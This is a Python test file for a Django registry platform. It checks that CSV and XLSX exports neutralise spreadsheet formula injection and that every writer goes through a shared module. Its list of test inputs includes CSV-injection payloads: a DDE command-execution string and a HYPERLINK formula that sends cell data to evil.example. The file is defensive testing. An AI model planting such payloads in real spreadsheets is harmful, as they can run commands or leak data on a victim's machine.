"""No cell of a CSV or XLSX file the platform writes can run as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from registers import tabular
from registers.importing import run_import
from registers.models import ImportBatch, Work
from registers.tasks import import_works
from tests import ROOT
from tests import factories as f
from udp.core import spreadsheets

DANGEROUS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "@SUM(1)",
    "-2+3+cmd|x",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
]
TITLES = DANGEROUS[:5]  # the register strips a title's leading tab or carriage return


@pytest.fixture
def dangerous_works(personas: Any) -> list[Work]:
    return [
        f.make_work(personas.holder, (personas.holder_party, "CA", {"PR": Decimal("100")}), title=title)
        for title in TITLES
    ]


def test_a_formula_like_value_is_prefixed_with_a_quote_and_read_back_as_itself() -> None:
    for value in DANGEROUS:
        assert spreadsheets.csv_cell(value) == "'" + value
        assert spreadsheets.unquote(spreadsheets.csv_cell(value)) == value
    assert spreadsheets.csv_cell("Менің елім") == "Менің елім"
    assert spreadsheets.csv_cell("'quoted'") == "'quoted'" == spreadsheets.unquote("'quoted'")
    sheet = load_workbook(io.BytesIO(spreadsheets.xlsx_bytes(["value"], [[v] for v in DANGEROUS]))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells][:-1] == DANGEROUS[:-1]  # XML reads a lone CR back as LF
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    lines = list(
        csv.reader(
            io.StringIO(spreadsheets.csv_bytes(["value"], [[v] for v in DANGEROUS]).decode("utf-8-sig"))
        )
    )
    assert [row[0] for row in lines[1:]] == ["'" + v for v in DANGEROUS]


def test_the_csv_export_holds_no_cell_a_spreadsheet_would_run(personas: Any, dangerous_works: Any) -> None:
    response = f.signed_in(personas.holder, language=None).get(reverse("imports:export", args=["csv"]))

    rows = list(csv.DictReader(io.StringIO(f.streamed(response).decode("utf-8-sig"))))
    titles = {row["title"] for row in rows}
    assert titles == {"'" + value for value in TITLES}
    for row in rows:
        for value in row.values():
            assert not spreadsheets.is_dangerous(value or ""), row


def test_the_xlsx_export_holds_text_cells_only_never_a_formula(personas: Any, dangerous_works: Any) -> None:
    response = f.signed_in(personas.holder, language=None).get(reverse("imports:export", args=["xlsx"]))

    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type == "s" for cell in cells), [
        (c.coordinate, c.value, c.data_type) for c in cells if c.data_type != "s"
    ]
    titles = {c.value: c for c in cells if c.column_letter == "D" and c.row > 1}
    assert set(titles) == set(TITLES)
    assert all(cell.quotePrefix for cell in titles.values())


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_formula_like_titles_import_back_unchanged(
    personas: Any, dangerous_works: Any, fmt: str, settings: Any, tmp_path: Path
) -> None:
    settings.MEDIA_ROOT = tmp_path
    mine = Work.objects.filter(submitted_by=personas.holder)
    rows = list(tabular.export_rows(mine))
    data = tabular.write_xlsx(rows) if fmt == "xlsx" else tabular.write_csv(rows)
    batch = ImportBatch.objects.create(
        format=fmt, filename=f"w.{fmt}", uploaded_by=personas.holder, file=ContentFile(data, name=f"w.{fmt}")
    )

    done = run_import(batch.pk)
    assert done is not None
    batch = done

    assert (batch.status, batch.works_updated) == ("done", len(TITLES)), f.problems_of(batch)
    assert set(mine.values_list("title", flat=True)) == set(TITLES)


def test_the_problems_csv_neutralises_what_the_uploader_wrote(
    personas: Any, settings: Any, tmp_path: Path
) -> None:
    settings.MEDIA_ROOT = tmp_path
    client = f.signed_in(personas.holder, language=None)
    data = b"work_ref,title,contributor_name,role\n=HYPERLINK(1),T,W,XX\n"
    client.post(reverse("imports:upload"), {"file": SimpleUploadedFile("w.csv", data), "policy": "keep_good"})
    batch = ImportBatch.objects.get()
    import_works(batch.pk)
    response = client.get(reverse("imports:problems_csv", args=[batch.pk]))
    for row in csv.reader(io.StringIO(f.streamed(response).decode("utf-8-sig"))):
        assert not any(spreadsheets.is_dangerous(cell) for cell in row), row


def test_every_csv_and_xlsx_writer_in_the_code_goes_through_the_shared_module() -> None:
    """A later export that writes CSV or XLSX by itself would bring formula injection back."""
    pattern = re.compile(
        r"csv\.(writer|DictWriter)\(|openpyxl import .*Workbook\b|Workbook\(|WriteOnlyCell\("
    )
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if (
            relative.startswith((".venv/", "tests/", ".data/"))
            or "/migrations/" in relative
            or "/tests/" in relative
        ):
            continue
        if relative == "udp/core/spreadsheets.py":
            continue
        if pattern.search(path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == [], f"write CSV/XLSX through udp.core.spreadsheets: {offenders}"
